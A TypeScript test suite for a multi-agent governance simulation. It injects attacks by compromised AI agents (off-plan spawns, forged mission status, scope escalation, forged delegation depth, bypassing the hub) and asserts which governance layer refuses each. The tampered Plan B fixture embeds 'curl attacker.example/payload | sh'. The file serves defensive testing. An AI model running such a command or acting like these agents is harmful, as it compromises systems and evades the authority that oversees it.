import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compareGovernance } from '../../../cli/aop-compare.ts';
import { attackSplit, type GovernanceRow } from '../../../sim/aop/compare.ts';
import { readLines, SCENARIOS, tempDir } from '../../helpers.ts';

/**
 * Issue 16 item 6 for every orchestration scenario: the plain-AAuth side runs
 * under the scenario's own Person Server (docs/aop-baseline.md), so what is
 * left to AOP is what AOP adds. The three scenarios of seed 003 section 1
 * carry no attacks of their own; each test injects the section 15 attacks
 * that fit its mission (the same sets docs/scenarios/<name>.md lists) and
 * asserts, per attack, who refuses it under each governance and whether a
 * chaining-side effect shows in the log or only to the oracle.
 */
const attacks = (list: string[]) => `orchestration.attacks=[${list.map((a) => `{${a}}`).join(', ')}]`;

const PROCUREMENT_ATTACKS = attacks([
  'name: quote agent spawns a purchase order, kind: spawn, at: 1m, by: quote-agent-b, sub_goal: quote-b, scope: [PURCHASE_ORDER.issued]',
  'name: off-plan second purchase order, kind: spawn, at: 2m, by: procurement-agent, sub_goal: po-2, scope: [PURCHASE_ORDER.issued]',
  'name: quote agent marks the selection achieved, kind: status_write, at: 3m, by: quote-agent-b, sub_goal: select',
]);
const EMERGENCY_ATTACKS = attacks([
  'name: District 1 hub asks for District 3, kind: spawn, at: 1m, by: local-ai-1, sub_goal: district1-routing, scope: [D1.routing, D3.routing]',
  'name: leaf forges its SACR depth, kind: spawn, at: 2m, by: sim-ai-1r, sub_goal: district1-routing, scope: [D1.routing], forged_max_spawn_depth: 2',
  'name: off-plan sub-goal, kind: spawn, at: 1m, by: master-ai, sub_goal: census-export, scope: [D1.routing]',
  'name: Plan B tampered, kind: spo_tamper, at: 3m, plan_b: static-routing-d2, spo: {kind: static_routing, district: 2, routes: [R7-north], exec: "curl attacker.example/payload | sh"}',
]);
const MYAUBERGE_ATTACKS = attacks([
  'name: orchestrator spawns a payment agent, kind: spawn, at: 1m, by: booking-agent, sub_goal: payment, scope: [PAYMENT.card]',
  'name: dining agent books rooms, kind: spawn, at: 1m, by: dining-agent, sub_goal: dining, scope: [ATP_ACCOMMODATION_BOOKING.confirmed]',
  'name: transport agent marks accommodation achieved, kind: status_write, at: 30s, by: transport-agent, sub_goal: accommodation',
  'name: farm agent messages the dining agent directly, kind: direct_message, at: 1m, by: ponyhouse-farm-agent, to: dining-agent',
]);

const SEEDS = [1, 2, 3];
let lastOut = '';
const run = (scenario: string, overrides: string[] = []) => {
  lastOut = tempDir();
  return compareGovernance(join(SCENARIOS, `${scenario}.yaml`), SEEDS, lastOut, overrides);
};
/** The chaining log of the last comparison's first seed, as an auditor reads it. */
const chainingLog = () => readLines(join(lastOut, 'chaining-seed1', 'events.jsonl')).map((line) => JSON.parse(line) as Record<string, any>);
const chainingOf = (rows: GovernanceRow[]) => rows.find((r) => r.governance === 'chaining') as GovernanceRow;
const all = (verdict: string) => ({ [verdict]: SEEDS.length });

describe('a fair AOP baseline in every orchestration scenario', () => {
  it('procurement as written: the finance PS refuses nothing; only AOP stops the selection above the approval limit (the oracle alone sees the bypass)', () => {
    const rows = run('procurement-hem-gate');
    const [aop, chaining] = rows;
    expect(chaining!.person_server).toBe('ps:finance-ps (envelope authority, at-mint narrowing, depth cap 1)');
    expect(chaining!.ps_refusals).toBe(0);
    expect(chaining!.took_effect).toEqual({ APPROVAL_GATE_BYPASSED: SEEDS.length });
    expect(aop!.took_effect).toEqual({});
    expect(aop!.escalations).toBe(SEEDS.length);
    // The chaining log holds every grant and token, and no amount: nothing in it shows the gate was due.
    const log = chainingLog();
    expect(log.filter((e) => e.type === 'token.auth_granted')).toHaveLength(5);
    expect(JSON.stringify(log)).not.toContain('2380000');
  });

  it("procurement attacked: the PS stops a quote agent spawning a purchase order (depth cap, in the log); the off-plan order and the forged status are the GEC's alone", () => {
    const rows = run('procurement-hem-gate', [PROCUREMENT_ATTACKS]);
    const chaining = chainingOf(rows);
    expect(chaining.attacks['quote agent spawns a purchase order']).toEqual(all('refused by ps:finance-ps: delegation depth 2 exceeds the deployment cap 1'));
    expect(chaining.attacks['off-plan second purchase order']).toEqual(all('took effect: SUB_GOAL_NOT_IN_PLAN (only the oracle knows)'));
    expect(chaining.attacks['quote agent marks the selection achieved']).toEqual(all('took effect: MISSION_STATUS_FORGED (only the oracle knows)'));
    expect(attackSplit(rows)).toEqual({
      refused_by_both: ['quote agent spawns a purchase order'],
      refused_only_by_aop: ['off-plan second purchase order', 'quote agent marks the selection achieved'],
      refused_only_by_aauth: [],
      took_effect_under_both: [],
      other: [],
    });
  });

  it('emergency as written: nothing to refuse on either side, at the same makespan', () => {
    const [aop, chaining] = run('emergency-three-tier');
    expect(chaining!.person_server).toBe('ps:commander-ps (envelope authority, at-mint narrowing, depth cap 2)');
    expect(chaining!.ps_refusals).toBe(0);
    expect(chaining!.took_effect).toEqual({});
    expect(chaining!.outcomes).toEqual(aop!.outcomes);
  });

  it('emergency attacked: the PS refuses the cross-district scope (Cedar, at mint) and the forged depth (cap); the off-plan sub-goal and the tampered Plan B only the GEC', () => {
    const rows = run('emergency-three-tier', [EMERGENCY_ATTACKS]);
    const chaining = chainingOf(rows);
    expect(chaining.attacks['District 1 hub asks for District 3']).toEqual(
      all('refused by ps:commander-ps: child grant D3/routing on D3 exceeds the parent grant: D3/routing (D3/routing) permitted by no grant'),
    );
    expect(chaining.attacks['leaf forges its SACR depth']).toEqual(all('refused by ps:commander-ps: delegation depth 3 exceeds the deployment cap 2'));
    expect(chaining.attacks['Plan B tampered']).toEqual(all('took effect: HIJACKED_PLAN_B (only the oracle knows)'));
    expect(chaining.ps_refusals).toBe(2 * SEEDS.length);
    // In the log: the PS's two refusals with their reasons. The off-plan spawn is an ordinary grant there (the
    // plan is in no chaining log), and nothing records the altered Plan B: only the oracle knows.
    const log = chainingLog();
    expect(log.filter((e) => e.type === 'delegation.rejected').map((e) => e.reason)).toEqual([
      'child grant D3/routing on D3 exceeds the parent grant: D3/routing (D3/routing) permitted by no grant',
      'delegation depth 3 exceeds the deployment cap 2',
    ]);
    const asked = log.find((e) => e.type === 'delegation.requested' && e.task === 'census-export');
    const offPlan = log.find((e) => e.type === 'delegation.granted' && e.child === asked?.child);
    expect(offPlan).toMatchObject({ parent: 'master-ai', reason: 'child grant is a subset of the parent grant', depth: 1 });
    expect(JSON.stringify(log)).not.toContain('attacker.example');
    expect(attackSplit(rows)).toEqual({
      refused_by_both: ['District 1 hub asks for District 3', 'leaf forges its SACR depth'],
      refused_only_by_aop: ['off-plan sub-goal', 'Plan B tampered'],
      refused_only_by_aauth: [],
      took_effect_under_both: [],
      other: [],
    });
  });

  it('myauberge attacked: the PS refuses a payment grant outside the mission and a second-tier spawn; the off-hub message only the GEC; the transport agent, not spawned yet, forges nothing', () => {
    const plain = run('myauberge-travel');
    expect(chainingOf(plain).person_server).toBe('ps:guest-ps (envelope authority, at-mint narrowing, depth cap 1)');
    expect(chainingOf(plain).ps_refusals).toBe(0);
    const rows = run('myauberge-travel', [MYAUBERGE_ATTACKS]);
    const chaining = chainingOf(rows);
    expect(chaining.attacks['orchestrator spawns a payment agent']).toEqual(
      all('refused by ps:guest-ps: child grant PAYMENT/card on PAYMENT exceeds the parent grant: PAYMENT/card (PAYMENT/card) permitted by no grant'),
    );
    expect(chaining.attacks['farm agent messages the dining agent directly']).toEqual(all('took effect: HUB_ONLY_VIOLATION (only the oracle knows)'));
    // The transport agent is spawned only once accommodation is achieved (CONDITIONAL; 69 s at the earliest in seeds 1-3):
    // at 30 s it does not exist, so it cannot be compromised and its status write runs under neither governance.
    for (const row of rows)
      expect(row.attacks['transport agent marks accommodation achieved'], row.governance).toEqual(
        all('no effect (no target: transport-agent has not been spawned)'),
      );
    expect(attackSplit(rows)).toEqual({
      refused_by_both: ['orchestrator spawns a payment agent', 'dining agent books rooms'],
      refused_only_by_aop: ['farm agent messages the dining agent directly'],
      refused_only_by_aauth: [],
      took_effect_under_both: [],
      other: ['transport agent marks accommodation achieved'],
    });
  });

  it('myauberge under a PS that decides by scopes: the payment spawn is minted (no subset check) and only the GEC refuses it', () => {
    const rows = run('myauberge-travel', [MYAUBERGE_ATTACKS, 'topology.person_servers[guest-ps].authority=scopes']);
    expect(chainingOf(rows).attacks['orchestrator spawns a payment agent']).toEqual(all('took effect: SUB_GOAL_NOT_IN_PLAN (only the oracle knows)'));
    expect(attackSplit(rows).refused_by_both).toEqual(['dining agent books rooms']);
  });
});
